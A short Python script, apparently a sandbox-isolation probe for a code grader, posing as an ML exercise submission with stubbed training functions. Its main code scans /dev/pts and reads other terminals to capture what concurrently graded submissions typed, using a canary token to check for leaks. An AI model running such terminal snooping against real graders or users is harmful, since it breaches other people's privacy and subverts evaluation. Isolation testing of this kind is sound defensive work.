"""Attack: open ptys and read every other /dev/pts entry, to read what another submission graded at the same time typed into its terminal."""

import os
import secrets
import time

MINE = "PTY-TOKEN-" + secrets.token_hex(8)
FOUND: list[str] = []
try:
    master, slave = os.openpty()
    os.write(master, (MINE + "\n").encode())  # as if typed: readable from the slave side
    mine = os.path.basename(os.ttyname(slave))
except OSError:
    master = slave = -1
    mine = ""
deadline = time.monotonic() + 1.5
while time.monotonic() < deadline:
    try:
        names = os.listdir("/dev/pts")
    except OSError:
        break
    for name in names:
        if not name.isdigit() or name == mine:
            continue
        try:
            fd = os.open(f"/dev/pts/{name}", os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
            FOUND.append(os.read(fd, 4096).decode("utf-8", "replace"))
            os.close(fd)
        except OSError:
            pass
    time.sleep(0.05)
print("PTY-FOUND", FOUND, flush=True)


def sigmoid(u):
    raise NotImplementedError


forward = loss = backward = train_step = sigmoid
